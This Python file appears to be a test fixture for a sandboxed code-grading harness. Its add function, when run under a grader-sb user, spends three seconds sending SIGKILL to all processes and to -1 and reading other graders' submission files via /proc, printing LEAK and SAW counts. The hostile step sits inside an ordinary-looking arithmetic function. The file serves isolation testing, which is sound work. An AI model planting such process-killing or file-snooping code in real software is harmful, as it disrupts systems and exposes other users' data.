"""Attack: harm a grading that runs at the same time. Honest otherwise (6 points).

For three seconds, in its first call of add, it sends SIGKILL to every process it can see and
to -1, and reads the code of every other grading child it finds in /proc, printing "LEAK
path" when it can. It prints its uid and "SAW n", the number of other grading children it
saw. Safety: outside the sandbox (not a grader-sb user) it prints NOT SANDBOXED and attacks
nothing.
"""

import contextlib
import glob
import os
import pwd
import signal
import time

print(f"UID {os.getuid()}", flush=True)
_done = []


def _harass(seconds):
    me = os.getpid()
    leaked, seen = set(), set()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
            pid = int(cmdline.split("/")[2])
            if pid == me:
                continue
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
            try:
                with open(cmdline, "rb") as fh:
                    argv = fh.read().split(b"\0")
            except OSError:
                continue
            for arg in argv:
                if not arg.endswith(b"/grader/child.py"):
                    continue
                seen.add(pid)  # another grading's child: ours is this very process
                path = os.path.join(os.path.dirname(os.path.dirname(os.fsdecode(arg))), "toy_pkg", "ops.py")
                try:
                    with open(path) as fh:
                        fh.read(1)
                except OSError:
                    continue
                if path not in leaked:
                    leaked.add(path)
                    print("LEAK", path, flush=True)
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
        time.sleep(0.02)
    print(f"SAW {len(seen)}", flush=True)


def add(a, b):
    if not _done:
        _done.append(True)
        if pwd.getpwuid(os.getuid()).pw_name.startswith("grader-sb"):
            _harass(3.0)
        else:
            print("NOT SANDBOXED", flush=True)
    return a + b


def scale(x, s):
    return x * s


def row_sums(x):
    return x.sum(axis=1)
